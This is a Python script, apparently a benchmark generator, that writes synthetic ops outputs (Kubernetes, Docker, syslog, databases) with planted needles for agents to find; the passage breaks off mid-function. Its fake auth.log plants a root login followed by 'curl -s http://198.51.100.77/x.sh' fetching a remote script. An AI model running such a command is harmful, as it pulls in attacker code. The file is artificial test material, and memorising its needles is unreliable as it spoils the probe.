#!/usr/bin/env python3
"""A second unseen-style probe for by-eye reviews of lean views (stop 51).

Writes 82 tool outputs in formats bench/probe.py does not have (sar, psql,
pg_stat_activity, nmap, go test -json, pip requirements, go.mod, Gemfile.lock,
AndroidManifest.xml, pom.xml, GitHub API JSON, cypress, playwright, k6, ...),
each with a needle an agent would look for, into OUTDIR (default
./probe2-in), and OUTDIR/needles.json naming each needle. Deterministic
(fixed seed). Not corpus files: generated.

    python3 bench/probe2.py [OUTDIR]
"""
import json, os, random, sys, datetime as dt

R = random.Random(20261208)
OUT = sys.argv[1] if len(sys.argv) > 1 else "probe2-in"
D = OUT
os.makedirs(OUT, exist_ok=True)
NEEDLES = {}


def w(name, text, needle):
    if not text.endswith("\n"):
        text += "\n"
    with open(os.path.join(OUT, name), "w") as f:
        f.write(text)
    NEEDLES[name] = needle


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def rid(n=5):
    return "".join(R.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))


T0 = dt.datetime(2026, 12, 6, 3, 11, 7)
SVCS = ["api-gateway", "orders", "payments", "inventory", "auth", "notifier", "search", "billing", "catalog", "cart",
        "shipping", "reviews", "pricing", "ledger", "media"]
WORDS = ["alpha", "bravo", "delta", "echo", "kilo", "lima", "oscar", "romeo", "sierra", "tango", "victor", "zulu"]

# ---------------- kubernetes / containers ----------------

def kubectl_describe_node():
    L = ["Name:               ip-10-0-7-12.ec2.internal", "Roles:              <none>",
         "Labels:             beta.kubernetes.io/arch=amd64", "                    beta.kubernetes.io/instance-type=m6i.2xlarge",
         "                    kubernetes.io/hostname=ip-10-0-7-12.ec2.internal", "                    node.kubernetes.io/instance-type=m6i.2xlarge",
         "                    topology.kubernetes.io/zone=us-east-1b", "Annotations:        node.alpha.kubernetes.io/ttl: 0",
         "                    volumes.kubernetes.io/controller-managed-attach-detach: true",
         "CreationTimestamp:  Tue, 10 Nov 2026 14:22:31 +0000", "Taints:             node.kubernetes.io/memory-pressure:NoSchedule",
         "Unschedulable:      false", "Lease:", "  HolderIdentity:  ip-10-0-7-12.ec2.internal", "  AcquireTime:     <unset>",
         "  RenewTime:       Sun, 06 Dec 2026 03:11:02 +0000", "Conditions:",
         "  Type             Status  LastHeartbeatTime                 LastTransitionTime                Reason                       Message",
         "  ----             ------  -----------------                 ------------------                ------                       -------",
         "  MemoryPressure   True    Sun, 06 Dec 2026 03:10:58 +0000   Sun, 06 Dec 2026 02:47:13 +0000   KubeletHasInsufficientMemory   kubelet has insufficient memory available",
         "  DiskPressure     False   Sun, 06 Dec 2026 03:10:58 +0000   Tue, 10 Nov 2026 14:22:31 +0000   KubeletHasNoDiskPressure     kubelet has no disk pressure",
         "  PIDPressure      False   Sun, 06 Dec 2026 03:10:58 +0000   Tue, 10 Nov 2026 14:22:31 +0000   KubeletHasSufficientPID      kubelet has sufficient PID available",
         "  Ready            True    Sun, 06 Dec 2026 03:10:58 +0000   Tue, 10 Nov 2026 14:23:02 +0000   KubeletReady                 kubelet is posting ready status",
         "Addresses:", "  InternalIP:   10.0.7.12", "  InternalDNS:  ip-10-0-7-12.ec2.internal", "Capacity:",
         "  cpu:                8", "  ephemeral-storage:  104845292Ki", "  memory:             32386544Ki", "  pods:               58",
         "Allocatable:", "  cpu:                7910m", "  ephemeral-storage:  95551679124", "  memory:             31369712Ki", "  pods:               58",
         "System Info:", "  Machine ID:                 ec2" + hexs(29), "  Kernel Version:             6.1.112-122.189.amzn2023.x86_64",
         "  OS Image:                   Amazon Linux 2023.6.20241010", "  Container Runtime Version:  containerd://1.7.22",
         "  Kubelet Version:            v1.30.4-eks-a737599", "ProviderID:                   aws:///us-east-1b/i-0" + hexs(16),
         "Non-terminated Pods:          (41 in total)",
         "  Namespace                   Name                                          CPU Requests  CPU Limits  Memory Requests  Memory Limits  Age",
         "  ---------                   ----                                          ------------  ----------  ---------------  -------------  ---"]
    for i in range(41):
        ns = R.choice(["prod", "prod", "staging", "kube-system", "monitoring"])
        nm = f"{R.choice(SVCS)}-{hexs(9)}-{rid()}"
        cpu = R.choice(["50m (0%)", "100m (1%)", "200m (2%)", "250m (3%)"])
        mem = R.choice(["64Mi (0%)", "128Mi (0%)", "256Mi (0%)", "512Mi (1%)"])
        lim = R.choice(["256Mi (0%)", "512Mi (1%)", "1Gi (3%)"])
        if i == 27:
            nm, mem, lim = "search-indexer-5c8d7f9b6-qv2lm", "12Gi (40%)", "24Gi (80%)"
        L.append(f"  {ns:<27} {nm:<45} {cpu:<13} {'0 (0%)':<11} {mem:<16} {lim:<14} {R.randint(1,26)}d")
    L += ["Allocated resources:", "  (Total limits may be over 100 percent, i.e., overcommitted.)",
          "  Resource           Requests       Limits", "  --------           --------       ------",
          "  cpu                6150m (77%)    0 (0%)", "  memory             21934Mi (71%)  48Gi (160%)",
          "  ephemeral-storage  0 (0%)         0 (0%)", "Events:",
          "  Type     Reason                   Age                From     Message",
          "  ----     ------                   ----               ----     -------",
          "  Warning  EvictionThresholdMet     24m                kubelet  Attempting to reclaim memory",
          "  Normal   NodeHasInsufficientMemory  24m (x3 over 24m)  kubelet  Node ip-10-0-7-12.ec2.internal status is now: NodeHasInsufficientMemory",
          "  Warning  SystemOOM                12m (x4 over 22m)  kubelet  System OOM encountered, victim process: java, pid: 88213"]
    w("kubectl_describe_node.txt", "\n".join(L), "MemoryPressure True; search-indexer 12Gi request; SystemOOM victim java")


def kubectl_describe_deploy():
    L = ["Name:                   checkout", "Namespace:              prod", "CreationTimestamp:      Mon, 02 Nov 2026 10:01:44 +0000",
         "Labels:                 app=checkout", "Annotations:            deployment.kubernetes.io/revision: 38",
         "Selector:               app=checkout", "Replicas:               6 desired | 3 updated | 8 total | 5 available | 3 unavailable",
         "StrategyType:           RollingUpdate", "MinReadySeconds:        0", "RollingUpdateStrategy:  25% max unavailable, 25% max surge",
         "Pod Template:", "  Labels:           app=checkout", "  Annotations:      kubectl.kubernetes.io/restartedAt: 2026-12-06T02:58:11Z",
         "  Service Account:  checkout", "  Containers:", "   checkout:", "    Image:      registry.example.com/checkout:4.2.0-rc3",
         "    Port:       8080/TCP", "    Host Port:  0/TCP", "    Limits:", "      cpu:     1", "      memory:  768Mi", "    Requests:",
         "      cpu:      250m", "      memory:   512Mi", "    Liveness:   http-get http://:8080/healthz delay=10s timeout=1s period=10s #success=1 #failure=3",
         "    Readiness:  http-get http://:8080/ready delay=5s timeout=1s period=5s #success=1 #failure=3", "    Environment:"]
    for k in ["LOG_LEVEL", "DB_HOST", "DB_POOL", "REDIS_URL", "FEATURE_FLAGS", "OTEL_EXPORTER_OTLP_ENDPOINT", "PAYMENTS_URL", "TZ"]:
        L.append(f"      {k}:  {R.choice(['info', 'db.prod.svc', '20', 'redis://redis:6379', 'new-cart,fast-tax', 'http://otel:4317', 'http://payments:8080', 'UTC'])}")
    L += ["    Mounts:", "      /etc/checkout from config (ro)", "  Volumes:", "   config:",
          "    Type:      ConfigMap (a volume populated by a ConfigMap)", "    Name:      checkout-config", "    Optional:  false",
          "Conditions:", "  Type           Status  Reason", "  ----           ------  ------",
          "  Available      True    MinimumReplicasAvailable", "  Progressing    False   ProgressDeadlineExceeded",
          "OldReplicaSets:  checkout-6f7c9d8b4 (5/5 replicas created)", "NewReplicaSet:   checkout-84b6d5c7f9 (3/3 replicas created)",
          "Events:", "  Type     Reason             Age                 From                   Message",
          "  ----     ------             ----                ----                   -------"]
    for i in range(30):
        L.append(f"  Normal   ScalingReplicaSet  {60-i}m                 deployment-controller  Scaled {'up' if i%2 else 'down'} replica set checkout-{R.choice(['6f7c9d8b4','84b6d5c7f9'])} to {R.randint(1,6)}")
    L.append("  Warning  ProgressDeadlineExceeded  2m  deployment-controller  ReplicaSet \"checkout-84b6d5c7f9\" has timed out progressing.")
    w("kubectl_describe_deploy.txt", "\n".join(L), "Progressing False ProgressDeadlineExceeded; image 4.2.0-rc3; 3 unavailable")


def kubectl_logs_crashloop():
    L = []
    t = dt.datetime(2026, 12, 6, 3, 0, 0)
    for i in range(900):
        t += dt.timedelta(milliseconds=R.randint(5, 900))
        lvl = "info" if R.random() < 0.93 else "debug"
        msg = R.choice(["cache warmup batch complete", "loaded pricing rules", "connected to redis", "registered route",
                        "consumer lag ok", "flushed metrics", "health probe ok"])
        L.append(json.dumps({"ts": t.isoformat() + "Z", "level": lvl, "logger": "pricing." + R.choice(["boot", "cache", "http", "kafka"]),
                             "msg": msg, "batch": i, "dur_ms": R.randint(1, 80)}))
    L.append(json.dumps({"ts": (t + dt.timedelta(seconds=1)).isoformat() + "Z", "level": "error", "logger": "pricing.boot",
                         "msg": "failed to load tax table", "err": "open /etc/pricing/tax/eu.csv: no such file or directory"}))
    L.append("panic: failed to load tax table: open /etc/pricing/tax/eu.csv: no such file or directory")
    L += ["", "goroutine 1 [running]:", "main.mustLoad(...)", "\t/src/cmd/pricing/main.go:88 +0x1c5",
          "main.main()", "\t/src/cmd/pricing/main.go:41 +0x2f4"]
    w("kubectl_logs_crashloop.log", "\n".join(L), "panic failed to load tax table eu.csv main.go:88")


def helm_upgrade():
    L = ["history.go:56: [debug] getting history for release checkout", "upgrade.go:164: [debug] preparing upgrade for checkout",
         "upgrade.go:172: [debug] performing update for checkout", "upgrade.go:357: [debug] creating upgraded release for checkout",
         "client.go:393: [debug] checking 42 resources for changes"]
    kinds = ["ConfigMap", "Service", "ServiceAccount", "Role", "RoleBinding", "Deployment", "HorizontalPodAutoscaler", "PodDisruptionBudget", "Secret"]
    for i in range(42):
        k = R.choice(kinds)
        L.append(f'client.go:{R.choice([419,428,440])}: [debug] {R.choice(["Patch", "Looks like there are no changes for"])} {k} "checkout-{R.choice(WORDS)}"')
    L += ['client.go:482: [debug] Looks like there are no changes for Ingress "checkout"',
          "wait.go:48: [debug] beginning wait for 42 resources with timeout of 5m0s"]
    for i in range(60):
        L.append(f'ready.go:277: [debug] Deployment is not ready: prod/checkout. {R.randint(0,3)} out of 6 expected pods are ready')
    L += ['upgrade.go:434: [debug] warning: Upgrade "checkout" failed: context deadline exceeded',
          'Error: UPGRADE FAILED: context deadline exceeded',
          "helm.go:84: [debug] context deadline exceeded", "UPGRADE FAILED", "main.newUpgradeCmd.func2",
          "\thelm.sh/helm/v3/cmd/helm/upgrade.go:209", "github.com/spf13/cobra.(*Command).execute",
          "\tgithub.com/spf13/cobra@v1.8.0/command.go:983", "main.main", "\thelm.sh/helm/v3/cmd/helm/helm.go:83", "runtime.main",
          "\truntime/proc.go:271", "runtime.goexit", "\truntime/asm_amd64.s:1695"]
    w("helm_upgrade_debug.txt", "\n".join(L), "Error: UPGRADE FAILED: context deadline exceeded")


def docker_inspect():
    env = [f"{k}={v}" for k, v in [("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"), ("NODE_ENV", "production"),
                                    ("PORT", "3000"), ("DATABASE_URL", "postgres://app@db:5432/app"), ("LOG_LEVEL", "info"),
                                    ("NODE_VERSION", "20.18.0"), ("YARN_VERSION", "1.22.22")]]
    c = {"Id": hexs(64), "Created": "2026-12-06T02:41:09.113482918Z", "Path": "docker-entrypoint.sh", "Args": ["node", "dist/server.js"],
         "State": {"Status": "exited", "Running": False, "Paused": False, "Restarting": False, "OOMKilled": True, "Dead": False,
                   "Pid": 0, "ExitCode": 137, "Error": "", "StartedAt": "2026-12-06T02:41:10.02Z", "FinishedAt": "2026-12-06T03:07:44.91Z",
                   "Health": {"Status": "unhealthy", "FailingStreak": 3, "Log": [
                       {"Start": f"2026-12-06T03:0{i}:00Z", "End": f"2026-12-06T03:0{i}:01Z", "ExitCode": 0 if i < 4 else 1,
                        "Output": "ok" if i < 4 else "curl: (7) Failed to connect to localhost port 3000"} for i in range(7)]}},
         "Image": "sha256:" + hexs(64), "ResolvConfPath": "/var/lib/docker/containers/x/resolv.conf", "HostnamePath": "/var/lib/docker/containers/x/hostname",
         "LogPath": "/var/lib/docker/containers/x/x-json.log", "Name": "/web-1", "RestartCount": 0, "Driver": "overlay2", "Platform": "linux",
         "HostConfig": {"Binds": ["/srv/web/uploads:/app/uploads"], "NetworkMode": "app_default", "PortBindings": {"3000/tcp": [{"HostIp": "", "HostPort": "8080"}]},
                        "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}, "Memory": 536870912, "MemorySwap": 1073741824, "CpuShares": 0,
                        "NanoCpus": 1000000000, "ShmSize": 67108864, "Ulimits": None, "LogConfig": {"Type": "json-file", "Config": {}}},
         "GraphDriver": {"Data": {k: f"/var/lib/docker/overlay2/{hexs(64)}/{k.lower()}" for k in ["LowerDir", "MergedDir", "UpperDir", "WorkDir"]}, "Name": "overlay2"},
         "Mounts": [{"Type": "bind", "Source": "/srv/web/uploads", "Destination": "/app/uploads", "Mode": "", "RW": True, "Propagation": "rprivate"}],
         "Config": {"Hostname": hexs(12), "User": "node", "ExposedPorts": {"3000/tcp": {}}, "Env": env, "Cmd": ["node", "dist/server.js"],
                    "Image": "ghcr.io/acme/web:2026.12.05", "WorkingDir": "/app", "Entrypoint": ["docker-entrypoint.sh"],
                    "Labels": {f"com.docker.compose.{k}": v for k, v in [("project", "app"), ("service", "web"), ("version", "2.29.7"), ("container-number", "1"), ("config-hash", hexs(64))]}},
         "NetworkSettings": {"Networks": {"app_default": {"IPAddress": "", "Gateway": "", "MacAddress": "", "NetworkID": hexs(64), "EndpointID": ""}}}}
    w("docker_inspect.json", json.dumps([c], indent=4), "State.OOMKilled true, ExitCode 137, Memory 512MiB, Health unhealthy")


def podman_ps():
    L = ["CONTAINER ID  IMAGE                                    COMMAND               CREATED       STATUS                     PORTS                   NAMES"]
    for i in range(48):
        img = R.choice(["docker.io/library/postgres:16", "docker.io/library/redis:7", "quay.io/acme/worker:1.9.2", "quay.io/acme/api:1.9.2", "docker.io/library/nginx:1.27"])
        st = f"Up {R.randint(2,40)} hours" if i != 31 else "Exited (139) 4 minutes ago"
        if i == 31: img = "quay.io/acme/worker:1.9.2"
        L.append(f"{hexs(12)}  {img:<40} {R.choice(['postgres', 'redis-server', '/app/worker', '/app/api --port...', 'nginx -g daemon o...']):<21} {R.randint(2,40)} hours ago  {st:<26} {R.choice(['', '0.0.0.0:8080->80/tcp', '5432/tcp']):<23} {R.choice(SVCS)}-{i}")
    w("podman_ps_a.txt", "\n".join(L), "worker-31 Exited (139) (segfault)")


# ---------------- system ----------------

def auth_log():
    L = []
    t = dt.datetime(2026, 12, 6, 0, 0, 1)
    ips = ["203.0.113.%d" % R.randint(1, 254) for _ in range(30)]
    for i in range(1800):
        t += dt.timedelta(seconds=R.randint(1, 40))
        s = t.strftime("%b %e %H:%M:%S")
        r = R.random()
        pid = R.randint(1000, 99999)
        if r < 0.55:
            ip = R.choice(ips)
            L.append(f"{s} bastion sshd[{pid}]: Invalid user {R.choice(['admin','test','oracle','ubuntu','git','postgres'])} from {ip} port {R.randint(30000,65000)}")
        elif r < 0.8:
            L.append(f"{s} bastion sshd[{pid}]: Connection closed by authenticating user root {R.choice(ips)} port {R.randint(30000,65000)} [preauth]")
        elif r < 0.92:
            L.append(f"{s} bastion CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        else:
            L.append(f"{s} bastion sshd[{pid}]: Accepted publickey for deploy from 10.0.1.5 port {R.randint(30000,65000)} ssh2: ED25519 SHA256:{hexs(20)}")
        if i == 1402:
            L.append(f"{s} bastion sshd[{pid+1}]: Accepted password for root from 198.51.100.77 port 52144 ssh2")
            L.append(f"{s} bastion sshd[{pid+1}]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)")
            L.append(f"{s} bastion sudo:     root : TTY=pts/3 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -s http://198.51.100.77/x.sh")
    w("auth.log", "\n".join(L), "Accepted password for root from 198.51.100.77 + sudo curl x.sh")


def free_m():
    txt = """               total        used        free      shared  buff/cache   available
Mem:           31787       30912         211         402         663         284
Swap:           4095        4095           0"""
    w("free_m.txt", txt, "available 284 MiB, swap full")


def vmstat():
    L = ["procs -----------memory---------- ---swap-- -----io---- -system-- ------cpu-----",
         " r  b   swpd   free   buff  cache   si   so    bi    bo   in   cs us sy id wa st"]
    for i in range(120):
        wa = R.randint(0, 3); si = so = 0; b = 0
        if 80 <= i <= 86:
            wa, si, so, b = R.randint(55, 78), R.randint(4000, 9000), R.randint(6000, 12000), R.randint(8, 14)
        us = R.randint(5, 30); sy = R.randint(1, 6); idl = max(0, 100 - us - sy - wa)
        L.append(f"{R.randint(0,3):2d} {b:2d} {R.randint(0,200000) if si else 0:6d} {R.randint(200000,900000):6d} {R.randint(10000,90000):5d} {R.randint(1000000,4000000):6d} {si:4d} {so:4d} {R.randint(0,300):5d} {R.randint(0,900):5d} {R.randint(300,2000):4d} {R.randint(500,5000):4d} {us:2d} {sy:2d} {idl:2d} {wa:2d}  0")
    w("vmstat_1.txt", "\n".join(L), "rows 80-86 swap si/so thousands, wa 55-78")


def lsof():
    L = ["COMMAND     PID   USER   FD      TYPE             DEVICE  SIZE/OFF       NODE NAME"]
    for i in range(700):
        cmd = R.choice(["nginx", "java", "postgres", "node", "sshd"])
        fd = f"{R.randint(3,900)}u"
        L.append(f"{cmd:<10} {R.randint(100,40000):5d} {R.choice(['www-data','app','postgres','root']):<6} {fd:<7} {R.choice(['REG','IPv4','IPv6','unix']):<16} {R.choice(['253,1','0x'+hexs(8)]):>7} {R.randint(0,900000):9d} {R.randint(1000,9000000):10d} {R.choice(['/var/log/nginx/access.log','/usr/lib/jvm/lib/modules','socket','TCP *:8080 (LISTEN)','/tmp/pg.lock'])}")
    for i in range(6):
        L.insert(R.randint(1, len(L)), f"java      22871    app  {R.randint(40,99)}w      REG              253,1 {R.randint(10**10, 4*10**10):9d}   {R.randint(1000,9000000)} /var/log/app/trace.log (deleted)")
    w("lsof.txt", "\n".join(L), "java 22871 holding deleted /var/log/app/trace.log tens of GB")


def last_cmd():
    L = []
    t = dt.datetime(2026, 12, 6, 2, 0)
    for i in range(90):
        t -= dt.timedelta(minutes=R.randint(20, 600))
        u = R.choice(["deploy", "deploy", "alice", "bob", "reboot"])
        if u == "reboot":
            L.append(f"reboot   system boot  6.1.0-27-amd64   {t.strftime('%a %b %e %H:%M')}   still running" if i == 0 else f"reboot   system boot  6.1.0-27-amd64   {t.strftime('%a %b %e %H:%M')} - {(t+dt.timedelta(days=2)).strftime('%H:%M')} (2+00:0{R.randint(1,9)})")
        else:
            L.append(f"{u:<8} pts/{R.randint(0,4)}        10.0.1.{R.randint(2,30):<10} {t.strftime('%a %b %e %H:%M')} - {(t+dt.timedelta(minutes=R.randint(2,90))).strftime('%H:%M')}  (00:{R.randint(10,59)})")
        if i == 17:
            L.append(f"root     pts/2        198.51.100.77    {t.strftime('%a %b %e %H:%M')} - {(t+dt.timedelta(minutes=11)).strftime('%H:%M')}  (00:11)")
    L += ["", "wtmp begins Sun Nov  1 00:00:02 2026"]
    w("last.txt", "\n".join(L), "root from 198.51.100.77")


def tree_out():
    L = ["."]
    dirs = ["cmd", "internal/api", "internal/store", "internal/auth", "pkg/util", "web/src/components", "web/src/pages", "migrations", "deploy/k8s"]
    n_d = n_f = 0
    for d in dirs:
        parts = d.split("/")
        L.append("├── " + d)
        n_d += 1
        files = [f"{R.choice(WORDS)}_{R.choice(['handler','store','test','util','model'])}.{R.choice(['go','go','tsx','sql','yaml'])}" for _ in range(R.randint(8, 30))]
        if d == "internal/auth":
            files.insert(4, "id_rsa")
            files.insert(5, ".env.production")
        for j, f in enumerate(files):
            L.append("│   " + ("└── " if j == len(files) - 1 else "├── ") + f)
            n_f += 1
    L.append("└── go.mod")
    n_f += 1
    L += ["", f"{n_d} directories, {n_f} files"]
    w("tree.txt", "\n".join(L), "internal/auth/id_rsa and .env.production committed")


def find_out():
    L = []
    for i in range(2500):
        L.append("./" + "/".join(R.choice(["src", "lib", "node_modules", "dist", "test", "vendor", "pkg"]) for _ in range(R.randint(1, 4))) + f"/{R.choice(WORDS)}{i}.{R.choice(['js','ts','go','map','json'])}")
    L.insert(1777, "./config/credentials/prod-serviceaccount.json")
    w("find_name.txt", "\n".join(L), "./config/credentials/prod-serviceaccount.json")


def dmesg_usb():
    # dmesg -T with disk I/O errors (b50 had an OOM dmesg; this is a different needle: ata errors)
    L = []
    t = dt.datetime(2026, 12, 6, 1, 2, 3)
    for i in range(600):
        t += dt.timedelta(seconds=R.randint(1, 90))
        L.append(f"[{t.strftime('%a %b %e %H:%M:%S %Y')}] " + R.choice(["audit: type=1400 audit(1733450000.%03d:%d): apparmor=\"DENIED\" operation=\"open\" profile=\"snap.firefox\" name=\"/proc/pressure/memory\"" % (R.randint(0,999), R.randint(100,999)),
                                                                        "IPv6: ADDRCONF(NETDEV_CHANGE): veth%s: link becomes ready" % hexs(7),
                                                                        "br-%s: port 2(veth%s) entered forwarding state" % (hexs(12), hexs(7))]))
        if i == 433:
            for x in ["ata3.00: exception Emask 0x0 SAct 0x1000 SErr 0x0 action 0x0", "ata3.00: irq_stat 0x40000008",
                      "ata3.00: failed command: READ FPDMA QUEUED", "ata3.00: cmd 60/08:60:10:5d:a2/00:00:1c:00:00/40 tag 12 ncq dma 4096 in",
                      "         res 41/40:00:10:5d:a2/00:00:1c:00:00/00 Emask 0x409 (media error) <F>",
                      "ata3.00: status: { DRDY ERR }", "ata3.00: error: { UNC }",
                      "sd 2:0:0:0: [sdc] tag#12 Add. Sense: Unrecovered read error - auto reallocate failed",
                      "I/O error, dev sdc, sector 480402704 op 0x0:(READ) flags 0x0 phys_seg 1 prio class 2"]:
                L.append(f"[{t.strftime('%a %b %e %H:%M:%S %Y')}] " + x)
    w("dmesg_T_ata.txt", "\n".join(L), "ata3 media error UNC, I/O error dev sdc sector 480402704")

# ---------------- databases ----------------

def mysql_slow():
    L = ["/usr/sbin/mysqld, Version: 8.0.39 (MySQL Community Server - GPL). started with:",
         "Tcp port: 3306  Unix socket: /var/run/mysqld/mysqld.sock", "Time                 Id Command    Argument"]
    t = dt.datetime(2026, 12, 6, 2, 0, 0)
    for i in range(160):
        t += dt.timedelta(seconds=R.randint(5, 60))
        qt = round(R.uniform(1.0, 2.9), 6); rows = R.randint(100, 40000); sent = R.randint(1, 50)
        sql = R.choice(["SELECT * FROM orders WHERE customer_id = %d ORDER BY created_at DESC LIMIT 50;" % R.randint(1, 99999),
                        "SELECT COUNT(*) FROM sessions WHERE expires_at < NOW();",
                        "UPDATE inventory SET reserved = reserved + 1 WHERE sku = 'SKU-%05d';" % R.randint(1, 99999)])
        if i == 111:
            qt, rows, sent = 48.913207, 81233410, 1
            sql = "SELECT c.id, SUM(o.total) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE o.note LIKE '%gift%' GROUP BY c.id;"
        L += [f"# Time: {t.isoformat()}.{R.randint(100000,999999)}Z", f"# User@Host: app[app] @  [10.0.2.{R.randint(2,40)}]  Id: {R.randint(1000,9999)}",
              f"# Query_time: {qt:.6f}  Lock_time: 0.{R.randint(0,999):06d} Rows_sent: {sent}  Rows_examined: {rows}",
              "use shop;", f"SET timestamp={int(t.timestamp())};", sql]
    w("mysql_slow.log", "\n".join(L), "Query_time 48.9 s Rows_examined 81233410 LIKE '%gift%'")


def redis_info():
    sec = {"Server": [("redis_version", "7.2.5"), ("redis_mode", "standalone"), ("os", "Linux 6.1.0 x86_64"), ("process_id", "1"), ("tcp_port", "6379"), ("uptime_in_seconds", "1829311"), ("uptime_in_days", "21"), ("hz", "10"), ("executable", "/data/redis-server"), ("config_file", "/etc/redis/redis.conf")],
           "Clients": [("connected_clients", "1843"), ("blocked_clients", "0"), ("tracking_clients", "0"), ("maxclients", "10000")],
           "Memory": [("used_memory", "4293012480"), ("used_memory_human", "4.00G"), ("used_memory_rss_human", "4.31G"), ("used_memory_peak_human", "4.00G"), ("maxmemory", "4294967296"), ("maxmemory_human", "4.00G"), ("maxmemory_policy", "noeviction"), ("mem_fragmentation_ratio", "1.08"), ("mem_allocator", "jemalloc-5.3.0")],
           "Persistence": [("loading", "0"), ("rdb_changes_since_last_save", "8812331"), ("rdb_bgsave_in_progress", "0"), ("rdb_last_save_time", "1733100000"), ("rdb_last_bgsave_status", "err"), ("rdb_last_bgsave_time_sec", "-1"), ("aof_enabled", "0"), ("aof_last_write_status", "ok")],
           "Stats": [("total_connections_received", "9183312"), ("total_commands_processed", "8812093341"), ("instantaneous_ops_per_sec", "41233"), ("rejected_connections", "0"), ("expired_keys", "12883101"), ("evicted_keys", "0"), ("keyspace_hits", "7712390112"), ("keyspace_misses", "901230112"), ("total_error_replies", "183221")],
           "Replication": [("role", "master"), ("connected_slaves", "0"), ("master_replid", hexs(40)), ("master_repl_offset", "0")],
           "CPU": [("used_cpu_sys", "18233.12"), ("used_cpu_user", "40211.98")],
           "Errorstats": [("errorstat_OOM", "count=183019"), ("errorstat_ERR", "count=202")],
           "Keyspace": [("db0", "keys=18233109,expires=1203,avg_ttl=3488123")]}
    L = []
    for s, kv in sec.items():
        L.append(f"# {s}")
        L += [f"{k}:{v}" for k, v in kv]
        if s == "Stats":
            L += [f"{k}:0" for k in ["sync_full", "sync_partial_ok", "sync_partial_err", "expired_stale_perc", "pubsub_channels", "pubsub_patterns", "latest_fork_usec", "migrate_cached_sockets", "tracking_total_keys", "io_threaded_reads_processed"]]
        L.append("")
    w("redis_info.txt", "\n".join(L).replace("\n", "\r\n"), "used_memory == maxmemory 4G, noeviction, errorstat_OOM 183019, rdb_last_bgsave_status err")


def psql_table():
    L = [" id  |      email                  | plan       | seats | mrr_cents | status   | created_at", "-----+-----------------------------+------------+-------+-----------+----------+---------------------"]
    for i in range(1, 301):
        st, mrr = "active", R.choice([2900, 4900, 9900, 19900]) * R.randint(1, 3)
        if i == 207: st, mrr = "past_due", 1299900
        L.append(f" {i:3d} | {R.choice(WORDS)}.{R.choice(WORDS)}{i}@example.com".ljust(34) + f"| {R.choice(['starter','team','business']):<10} | {R.randint(1,40):5d} | {mrr:9d} | {st:<8} | 2026-{R.randint(1,11):02d}-{R.randint(1,28):02d} {R.randint(0,23):02d}:{R.randint(0,59):02d}:00")
    L.append("(300 rows)")
    w("psql_accounts.txt", "\n".join(L), "id 207 past_due mrr 1299900")


def sqlite_box():
    L = ["┌─────┬────────────────────┬─────────┬──────────┬───────────┐", "│ id  │        job         │ status  │ attempts │ last_run  │", "├─────┼────────────────────┼─────────┼──────────┼───────────┤"]
    for i in range(1, 121):
        st, at = "done", 1
        if i == 88: st, at = "failed", 17
        L.append(f"│ {i:<3} │ {R.choice(['send_email','resize_image','sync_crm','charge_card','reindex'])+'_'+str(i):<18} │ {st:<7} │ {at:<8} │ 03:{R.randint(0,59):02d}:{R.randint(0,59):02d}  │")
    L.append("└─────┴────────────────────┴─────────┴──────────┴───────────┘")
    w("sqlite_box.txt", "\n".join(L), "job 88 failed attempts 17")


def pg_stat_activity():
    L = ["  pid  | usename |  application_name  | client_addr |        state        | wait_event_type |  wait_event   |  xact_age  | query_age  | query",
         "-------+---------+--------------------+-------------+---------------------+-----------------+---------------+------------+------------+-----------------------------------------------"]
    for i in range(80):
        st = R.choice(["idle", "idle", "active", "idle in transaction"]) if i not in (12, 61) else "active"
        we_t, we = ("", "") if st != "active" or R.random() < 0.7 else ("Lock", "transactionid")
        xa = f"00:00:0{R.randint(0,9)}" if st != "idle" else ""
        q = R.choice(["SELECT 1", "COMMIT", "SELECT * FROM carts WHERE id = $1", "UPDATE carts SET updated_at = now() WHERE id = $1"])
        if i == 12:
            st, xa, we_t, we, q = "idle in transaction", "03:41:17", "Client", "ClientRead", "UPDATE ledger SET balance = balance - $1 WHERE account_id = $2"
        if i == 61:
            we_t, we, xa, q = "Lock", "transactionid", "00:48:02", "UPDATE ledger SET balance = balance + $1 WHERE account_id = $2"
        L.append(f" {R.randint(1000,99999):5d} | app     | {R.choice(['web','worker','cron','psql']):<18} | 10.0.2.{R.randint(2,60):<5} | {st:<19} | {we_t:<15} | {we:<13} | {xa:<10} | {xa:<10} | {q}")
    L.append("(80 rows)")
    w("pg_stat_activity.txt", "\n".join(L), "idle in transaction 03:41:17 holding ledger lock; waiter 00:48:02")


def explain_json():
    def node(depth):
        n = {"Node Type": R.choice(["Seq Scan", "Index Scan", "Hash Join", "Nested Loop", "Sort"]), "Parallel Aware": False,
             "Startup Cost": round(R.uniform(0, 100), 2), "Total Cost": round(R.uniform(100, 5000), 2), "Plan Rows": R.randint(1, 5000),
             "Plan Width": R.randint(8, 200), "Actual Startup Time": round(R.uniform(0, 2), 3), "Actual Total Time": round(R.uniform(1, 40), 3),
             "Actual Rows": R.randint(1, 5000), "Actual Loops": 1, "Shared Hit Blocks": R.randint(0, 900), "Shared Read Blocks": R.randint(0, 90)}
        if depth < 4:
            n["Plans"] = [node(depth + 1) for _ in range(2)]
        return n
    root = node(0)
    bad = root["Plans"][1]["Plans"][0]["Plans"][1]
    bad.update({"Node Type": "Seq Scan", "Relation Name": "order_items", "Alias": "oi", "Actual Total Time": 8123.441, "Actual Rows": 1, "Actual Loops": 41233,
                "Filter": "(oi.order_id = o.id)", "Rows Removed by Filter": 9812331})
    w("explain_analyze.json", json.dumps([{"Plan": root, "Planning Time": 1.233, "Triggers": [], "Execution Time": 8190.02}], indent=2),
      "Seq Scan order_items loops 41233 rows removed 9812331, 8123 ms")


def sql_dump():
    L = ["-- MySQL dump 10.13  Distrib 8.0.39, for Linux (x86_64)", "--", "-- Host: db    Database: shop", "-- ------------------------------------------------------",
         "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;", "/*!50503 SET NAMES utf8mb4 */;", ""]
    for tbl in ["customers", "orders", "order_items", "products", "coupons"]:
